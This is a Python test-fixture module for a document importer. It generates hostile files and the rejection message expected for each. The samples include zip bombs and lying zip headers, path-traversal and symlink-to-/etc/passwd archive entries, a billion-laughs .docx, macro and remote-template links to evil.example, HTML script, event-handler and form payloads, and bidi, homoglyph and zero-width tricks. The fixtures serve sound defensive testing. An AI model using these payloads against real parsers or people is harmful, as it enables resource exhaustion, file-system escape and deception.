"""Files that mean harm, each made by code: a name, what makes its bytes, and what refuses it.

``why`` is a part of the refusal. Where it is empty the file comes in harmless, and ``dropped`` is a
part of what is told of it.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from tests.content.importers.files import docx, paragraph, run, zipped

Make = Callable[[], bytes]
GOOD = "A title\n\nSome text.\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Make
    why: str = ""
    dropped: str = ""

    def __str__(self) -> str:
        return f"{self.name}: {self.why or self.dropped}"


def text(words: str) -> Make:
    return lambda: f"A title\n\nFirst line.\n{words}\n".encode("utf-8", "surrogatepass")


def page(words: str) -> Make:
    return f"<!doctype html><h1>A title</h1>\n<p>Kept text.</p>\n{words}".encode


def word(body: str = "", **parts: bytes | str) -> Make:
    return partial(docx, body, **parts)


def member(name: str, content: bytes | str = GOOD, *, mode: int = 0, flags: int = 0) -> bytes:
    """Return a zip of one member with any name, mode and flags."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("x" * len(name.encode()))
        info.compress_type = zipfile.ZIP_DEFLATED
        info.external_attr = mode << 16
        archive.writestr(info, content)
    data = bytearray(buffer.getvalue().replace(b"x" * len(name.encode()), name.encode()))
    if flags:
        table = data.index(b"PK\x01\x02")
        struct.pack_into("<H", data, 6, flags)
        struct.pack_into("<H", data, table + 8, flags)
    return bytes(data)


def lying(size: int, told: int, name: str = "a.txt") -> bytes:
    """Return a zip whose member unpacks to ``size`` zeros and says ``told``, in both places."""
    data = bytearray(zipped({name: b"\x00" * size}))
    table = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, 22, told)
    struct.pack_into("<I", data, table + 24, told)
    return bytes(data)


def local_header_lies() -> bytes:
    data = bytearray(zipped({"a.txt": GOOD}))
    struct.pack_into("<I", data, 22, 5)
    return bytes(data)


def other_name_within() -> bytes:
    data = zipped({"a.txt": GOOD})
    return data.replace(b"a.txt", b"b.txt", 1)


def wrong_checksum() -> bytes:
    data = bytearray(zipped({"a.txt": GOOD}))
    table = data.index(b"PK\x01\x02")
    for at in (14, table + 16):
        struct.pack_into("<I", data, at, zlib.crc32(b"else"))
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of one table that share their bytes, as in D. Fifield's bomb."""
    data = zipped({"a.txt": GOOD})
    table, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry = data[table:end]
    second = entry.replace(b"a.txt", b"b.txt")
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, 2, 2, 2 * len(entry))
    return data[:table] + entry + second + bytes(tail)


def twice() -> bytes:
    data = zipped({"a.txt": GOOD, "b.txt": GOOD})
    return data.replace(b"b.txt", b"A.TXT")


def bomb() -> bytes:
    return zipped({"a.txt": b"\x00" * 5_000_000})


def many_bombs() -> bytes:
    inner = zipped({f"{n}.txt": b"\x00" * 9_000_000 for n in range(8)})
    return inner


def nested() -> bytes:
    data = zipped({"a.txt": GOOD})
    for _ in range(5):
        data = zipped({"inner.zip": data})
    return data


def external(kind: str, target: str) -> Make:
    return lambda: docx(links=(("rId7", kind, target, True),))


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(
        paragraph("A title") + "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>",
        prologue=f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>',
    )


def utf16_part() -> bytes:
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'
    return docx(word__settings_xml=codecs.BOM_UTF16_LE + xml.encode("utf-16-le"))


DEEP_LIST = "<ul><li>" * 300 + "deep" + "</li></ul>" * 300
CYRILLIC = "Clonazep\u0430m"

HOSTILE = [
    # Bombs, and archives that lie.
    Hostile("bomb.zip", bomb, "times its size, as no text does"),
    Hostile("many.zip", many_bombs, "unpacked it has 69 MiB, and at most 64 MiB"),
    Hostile("nested.zip", nested, "a zip within a zip"),
    Hostile(
        "says-1-kb.zip", lambda: lying(50_000_000, 1024), "unpacks to more than the 1,024 bytes"
    ),
    Hostile("says-more.zip", lambda: lying(1000, 2000), "its checksum is another"),
    Hostile("local.zip", local_header_lies, "says one thing of itself"),
    Hostile("two-names.zip", other_name_within, "says one thing of itself"),
    Hostile("checksum.zip", wrong_checksum, "its checksum is another"),
    Hostile("overlap.zip", overlapping, "parts overlap"),
    Hostile("twice.zip", twice, "twice"),
    Hostile(
        "count.zip", lambda: zipped({f"{n}.txt": "" for n in range(501)}), "more than 500 files"
    ),
    Hostile("cut.zip", lambda: zipped({"a.txt": GOOD})[:-30], "table of contents is not whole"),
    Hostile("program.zip", lambda: b"MZ\x90\x00" + zipped({"a.txt": GOOD}), "not a zip"),
    Hostile("locked.zip", lambda: member("a.txt", flags=1), "encrypted"),
    # Names and links in archives.
    Hostile("up.zip", lambda: member("../../a.txt"), "leads out of the archive"),
    Hostile("root.zip", lambda: member("/etc/a.txt"), "begins at the root"),
    Hostile("drive.zip", lambda: member("C:/a.txt"), "begins at the root"),
    Hostile("backslash.zip", lambda: member("..\\a.txt"), "a backslash"),
    Hostile("nul.zip", lambda: member("a.txt\x00.png"), "a NUL"),
    Hostile("bidi-name.zip", lambda: member("a\u202etxt.exe.txt", flags=0x800), "nobody sees"),
    Hostile("not-utf-8.zip", lambda: member("\u00e9.txt"), "not UTF-8"),
    Hostile("long.zip", lambda: member("a" * 300 + ".txt"), "more than 255 characters"),
    Hostile(
        "link.zip", lambda: member("a.txt", "/etc/passwd", mode=0o120777), "a link or a device"
    ),
    # Word files that are none, or do more than tell.
    Hostile("program.docx", lambda: b"MZ\x90\x00" + b"\x00" * 200, "it is a program, not a .docx"),
    Hostile("page.docx", page("<p>x</p>"), "it is a web page, not a .docx"),
    Hostile("zip.docx", lambda: zipped({"a.txt": GOOD}), "it is a zip, not a Word file"),
    Hostile("old.docx", lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "one with a password"),
    Hostile("cut.docx", lambda: docx()[:-200], "table of contents is not whole"),
    Hostile("bomb.docx", word(word__media__x_xml=b" " * 12_000_000), "times its size"),
    Hostile("laughs.docx", laughs, "defines words of its own (DOCTYPE)"),
    Hostile("utf-16.docx", utf16_part, "is not UTF-8"),
    Hostile("macro.docx", word(word__vbaProject_bin=b"x"), "a macro, a program or another file"),
    Hostile(
        "macros.docx",
        lambda: docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "with macros",
    ),
    Hostile(
        "ole.docx",
        word(word__embeddings__oleObject1_bin=b"x"),
        "a macro, a program or another file",
    ),
    Hostile(
        "sheet.docx", word(word__media__image1_png=zipped({"a": "b"})), "another file within it"
    ),
    Hostile(
        "template.docx",
        external("attachedTemplate", "http://evil.example/t.dotm"),
        "fetches something from elsewhere",
    ),
    Hostile(
        "picture.docx",
        external("image", "http://evil.example/p.png"),
        "fetches something from elsewhere",
    ),
    Hostile(
        "frame.docx",
        external("frame", "http://evil.example/f.html"),
        "fetches something from elsewhere",
    ),
    Hostile(
        "chunk.docx",
        lambda: docx(links=(("rId7", "aFChunk", "a.html", False),)),
        "names another file",
    ),
    Hostile("deep.docx", word("<w:smartTag>" * 400 + "</w:smartTag>" * 400), "deeper or larger"),
    Hostile("invalid.docx", word("<w:p><w:r></w:p>"), "is damaged (mismatched tag"),
    Hostile(
        "font.docx",
        word(paragraph("T") + paragraph("5 ", run("m", '<w:rFonts w:ascii="Symbol"/>'), "g")),
        "in the font Symbol",
    ),
    Hostile(
        "sign.docx",
        word(paragraph("T") + paragraph('<w:r><w:sym w:font="Symbol" w:char="F0B3"/></w:r>', "x")),
        "a sign of the font Symbol",
    ),
    Hostile(
        "bidi.docx",
        word(paragraph("T") + paragraph("do \u202enot")),
        "Paragraph 2 holds a sign that turns".lower(),
    ),
    # Pages that act.
    Hostile(
        "script.html",
        page("<script>steal()</script>"),
        dropped="Line 3: a script, left out (“steal()”)",
    ),
    Hostile(
        "handler.html",
        page('<p onclick="steal()">Text.</p>'),
        dropped="Line 3: an order to the browser (onclick)",
    ),
    Hostile(
        "javascript.html",
        page('<p><a href="java\nscript:steal()">Text</a></p>'),
        dropped="the address of a program",
    ),
    Hostile(
        "data.html",
        page('<img src="data:image/svg+xml,<svg onload=steal()>">'),
        dropped="the address of a program",
    ),
    Hostile(
        "svg.html",
        page('<svg onload="steal()"><text>x</text></svg>'),
        dropped="a drawing, left out (“x”)",
    ),
    Hostile(
        "refresh.html",
        page('<meta http-equiv="refresh" content="0;url=//evil.example">'),
        dropped="an order to go to another page",
    ),
    Hostile(
        "frame.html",
        page('<iframe src="//evil.example"></iframe>'),
        dropped="a page within the page",
    ),
    Hostile(
        "form.html",
        page('<form action="//evil.example"><input value="name"></form>'),
        dropped="a field of a form",
    ),
    Hostile(
        "hidden.html",
        page('<p style="display: none">You may stop at once.</p>'),
        dropped="hidden text, left out (“You may stop at once.”)",
    ),
    Hostile(
        "entity.html",
        lambda: b'<!DOCTYPE html [<!ENTITY e "x">]><h1>T</h1><p>&e;</p>',
        "a declaration",
    ),
    Hostile("deep.html", page("<div>" * 50_000 + "deep"), "more than 200 elements deep"),
    Hostile("lists.html", page(DEEP_LIST), "more than 200 elements deep"),
    Hostile(
        "attributes.html",
        page("<p " + " ".join(f"a{n}" for n in range(250_000)) + ">x</p>"),
        "more attributes",
    ),
    Hostile("elements.html", page("<b>" * 0 + "<br>" * 60_000), "more than 50,000 elements"),
    Hostile("plaintext.html", page("<plaintext><p>x"), "read in several ways"),
    Hostile("bidi.html", page("<p>do &#x202e;not</p>"), "line 3 holds a sign that turns"),
    # Letters that deceive, in text.
    Hostile(
        "bidi.txt", text("do \u202enot"), "line 4 holds a sign that turns the direction of writing"
    ),
    Hostile("isolate.md", text("do \u2067not"), "U+2067"),
    Hostile("homoglyph.txt", text(CYRILLIC), "(U+0430, cyrillic small letter a)"),
    Hostile("homoglyph.md", text("\u039dot today"), "(U+039D, greek capital letter nu)"),
    Hostile("fullwidth.txt", text("\uff4eot"), "U+FF4E"),
    Hostile("zero-width.txt", text("clona\u200bzepam"), "U+200B"),
    Hostile("joiner.txt", text("clona\u200dzepam"), "U+200D"),
    Hostile("tags.txt", text("Text\U000e0041"), "U+E0041"),
    Hostile("private.txt", text("Text \ue000"), "U+E000"),
    Hostile("nul.txt", text("Text\x00"), "NUL bytes"),
    Hostile("surrogate.txt", text("Text \ud800"), "not UTF-8"),
    Hostile(
        "utf-16-surrogate.txt",
        lambda: codecs.BOM_UTF16_LE + b"T\x00\n\x00a\x00\x00\xd8b\x00",
        "is not",
    ),
    Hostile("overlong.txt", lambda: GOOD.encode() + b"\xc0\xaf", "not UTF-8"),
    Hostile(
        "latin-1.txt", lambda: "A title\n\nfianc\u00e9".encode("latin-1"), "line 3 is not UTF-8"
    ),
    Hostile("zip.txt", lambda: zipped({"a.txt": GOOD}), "it is a zip or a Word file"),
    Hostile("pdf.md", lambda: b"%PDF-1.7\nA title\n\nText", "it is a PDF"),
    Hostile("one-line.txt", lambda: b"T\n\n" + b"word " * 200_000, "Nobody can follow it by ear"),
    Hostile("long-title.txt", lambda: b"T" * 100_000 + b"\n\nText.", "a title has at most 200"),
]
